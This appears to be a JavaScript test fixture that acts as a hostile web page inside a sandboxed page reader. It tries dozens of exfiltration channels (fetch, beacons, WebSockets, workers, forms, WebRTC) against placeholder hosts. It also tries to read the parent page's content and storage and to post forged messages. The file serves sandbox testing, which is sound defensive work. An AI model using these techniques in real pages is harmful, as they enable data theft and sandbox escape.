// What a page that means harm would try; OUT, READER and OTHER are filled in by the test.
const out = "http://127.0.0.1:OUT/", done = [];
const attempt = (name, action) => { try { const r = action(); if (r && r.catch) r.catch(() => 0); } catch { } done.push(name); };
const element = (tag, values) => { const e = Object.assign(document.createElement(tag), values); document.body.append(e); return e; };
const reader = "READER", readers = [reader, reader.replace("127.0.0.1", "localhost")];
for (const [n, target] of [out, ...readers.map((r) => r + "/"), "OTHER/"].entries()) {
  attempt("fetch", () => fetch(target + "fetch" + n).then((r) => r.text()).then((t) => { window.leaked = t; }));
  attempt("fetch no-cors", () => fetch(target + "nocors" + n, { mode: "no-cors" }));
  attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", target + "xhr" + n); x.send(); });
  attempt("beacon", () => navigator.sendBeacon(target + "beacon" + n, "x"));
  attempt("events", () => new EventSource(target + "events" + n));
  attempt("socket", () => new WebSocket(target.replace("http", "ws") + "socket" + n));
  attempt("image", () => element("img", { src: target + "image" + n }));
  attempt("script", () => element("script", { src: target + "script" + n }));
  attempt("sheet", () => element("link", { rel: "stylesheet", href: target + "sheet" + n }));
  attempt("prefetch", () => element("link", { rel: "prefetch", href: target + "prefetch" + n }));
  attempt("preload", () => element("link", { rel: "preload", as: "image", href: target + "preload" + n }));
  attempt("module", () => element("link", { rel: "modulepreload", href: target + "module" + n }));
  attempt("icon", () => element("link", { rel: "icon", href: target + "icon" + n }));
  attempt("manifest", () => element("link", { rel: "manifest", href: target + "manifest" + n }));
  attempt("frame", () => element("iframe", { src: target + "frame" + n }));
  attempt("object", () => element("object", { data: target + "object" + n }));
  attempt("video", () => element("video", { src: target + "video" + n, preload: "auto" }).load());
  attempt("font", () => new FontFace("x", `url(${target}font${n})`).load());
  attempt("worker", () => new Worker(URL.createObjectURL(new Blob([`fetch("${target}worker${n}")`]))));
  attempt("shared", () => new SharedWorker(target + "shared" + n));
  attempt("import", () => import(target + "import" + n));
  attempt("ping", () => { const a = element("a", { href: "#x", ping: target + "ping" + n }); a.click(); });
  attempt("form top", () => { const f = element("form", { action: target + "formtop" + n, target: "_top" }); f.submit(); });
  attempt("popup", () => window.open(target + "popup" + n));
  attempt("top", () => { window.top.location = target + "top" + n; });
  attempt("parent", () => { window.parent.location.href = target + "parent" + n; });
  attempt("srcdoc", () => element("iframe", { srcdoc: `<img src="${target}srcdoc${n}"><script>fetch("${target}srcdocfetch${n}")<\/script>` }));
  attempt("speculation", () => element("script", { type: "speculationrules", text: JSON.stringify({ prefetch: [{ source: "list", urls: [target + "spec" + n] }], prerender: [{ source: "list", urls: [target + "pre" + n] }] }) }));
}
attempt("service", () => navigator.serviceWorker.register("/sw.js"));
attempt("peer", () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:OUT" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); });
attempt("peer of a frame", () => {
  const f = element("iframe", {});
  const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:OUT" }] });
  p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));
});
attempt("reader's document", () => { window.leaked = window.parent.document.body.innerHTML; });
attempt("reader's storage", () => { window.leaked = window.parent.localStorage.theme; });
attempt("message", () => { window.parent.postMessage({ scrapepy: 1, kind: "go", path: "/taken.html" }, "*"); });
attempt("message out", () => { window.parent.postMessage({ scrapepy: 1, kind: "outside", address: out + "message" }, "*"); });
attempt("message script", () => { window.parent.postMessage({ scrapepy: 1, kind: "outside", address: "javascript:alert(1)" }, "*"); });
attempt("cookie", () => { document.cookie = "hostile=1; path=/; domain=localhost"; document.cookie = "hostile=1; path=/"; });
setTimeout(() => {
  console.log("tried " + done.length + ", leaked " + typeof window.leaked);
  for (const target of [out, reader + "/"]) {
    element("form", { action: target + "form", method: "post" }).submit(); // Chromium puts its own page in place of ours
  }
}, 800);
